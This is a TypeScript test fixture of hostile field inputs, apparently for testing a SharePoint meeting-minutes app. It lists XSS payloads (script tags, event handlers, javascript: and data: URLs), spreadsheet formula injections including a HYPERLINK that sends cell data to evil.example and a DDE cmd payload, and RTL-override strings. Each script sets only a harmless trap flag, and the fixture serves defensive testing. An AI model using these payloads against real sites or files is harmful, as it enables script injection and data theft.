/**
 * What a hostile colleague types into a field. Every payload that could run sets the page-level trap
 * `window.__pwned` (or the parent's, from a frame), and every element it would inject carries the
 * attribute `data-hostile`, so a test sees at once whether anything was interpreted instead of shown.
 */

/** The global any injected script would set. */
export const TRAP = '__pwned';

/** The attribute every injected element would carry. */
export const MARK = 'data-hostile';

export interface Payload {
  readonly name: string;
  readonly value: string;
}

const set = `window.${TRAP}=1`;

/** Text payloads: for titles, notes, names and choice values. */
export const TEXT_PAYLOADS: readonly Payload[] = [
  { name: 'script tag', value: `<script ${MARK}>${set}</script>` },
  { name: 'event handler', value: `<img src=x ${MARK} onerror="${set}">` },
  { name: 'quote-breaking (double)', value: `"><img src=x ${MARK} onerror=${set}>` },
  { name: 'quote-breaking (single)', value: `'><svg ${MARK} onload=${set}>` },
  { name: 'SVG with script', value: `<svg ${MARK}><script>${set}</script></svg>` },
  { name: 'javascript: link', value: `<a ${MARK} href="javascript:${set}">avaa</a>` },
  { name: 'iframe srcdoc', value: `<iframe ${MARK} srcdoc="<script>parent.${TRAP}=1</script>"></iframe>` },
  { name: 'entity-encoded markup', value: `&lt;img src=x ${MARK} onerror=${set}&gt; &#60;script&#62;${set}&#60;/script&#62;` },
  { name: 'mutation (noscript)', value: `<noscript><p title="</noscript><img src=x ${MARK} onerror=${set}>">` },
  { name: 'style breakout', value: `</style><style ${MARK}>*{display:none}</style><b ${MARK} style="position:fixed">x</b>` },
  { name: 'template expression', value: `{{constructor.constructor('${set}')()}} \${${set}}` },
  { name: 'RTL override', value: '\u202Eexe.fdp.tseuqeR\u202C Pöytäkirja \u2067عربي\u2069 \u200F' },
  { name: 'control characters', value: 'Rivi\u000Bvaihto Wordista\u000Csivu\u0001\u001F\u0008loppu' },
  { name: 'formula', value: '=HYPERLINK("https://evil.example/?"&A1,"Avaa")' },
  { name: 'formula (@, +, -)', value: "@SUM(1+1)*cmd|' /C calc'!A0 +1 -1" },
  { name: 'very long', value: `<img src=x ${MARK} onerror=${set}>${'Pitkä teksti ilman välilyöntejä_'.repeat(400)}` }
];

/** URL payloads: for URL fields (the meeting's minutes). */
export const URL_PAYLOADS: readonly Payload[] = [
  { name: 'javascript:', value: `javascript:${set}` },
  { name: 'javascript: (case, spaces, tab)', value: ` \tJaVaScRiPt:${set}` },
  { name: 'javascript: (tab inside)', value: `java\tscript:${set}` },
  { name: 'data: HTML', value: `data:text/html;base64,${Buffer.from(`<script>parent.${TRAP}=1</script>`).toString('base64')}` },
  { name: 'vbscript:', value: 'vbscript:msgbox(1)' },
  { name: 'protocol-relative', value: '//evil.example/Muistio.pdf' },
  { name: 'backslash host', value: '/\\evil.example/Muistio.pdf' },
  { name: 'quote-breaking https', value: `https://porvoo.fi/"><img src=x ${MARK} onerror=${set}>` }
];

/** A payload shortened to a field's maximum length (SharePoint refuses longer text). */
export function fit(value: string, maxLength: number | undefined): string {
  return maxLength === undefined || value.length <= maxLength ? value : value.slice(0, maxLength);
}

/** Every text payload, one after another, for fields without a length limit (notes). */
export function allPayloads(): string {
  return TEXT_PAYLOADS.map((p) => p.value).join('\n');
}
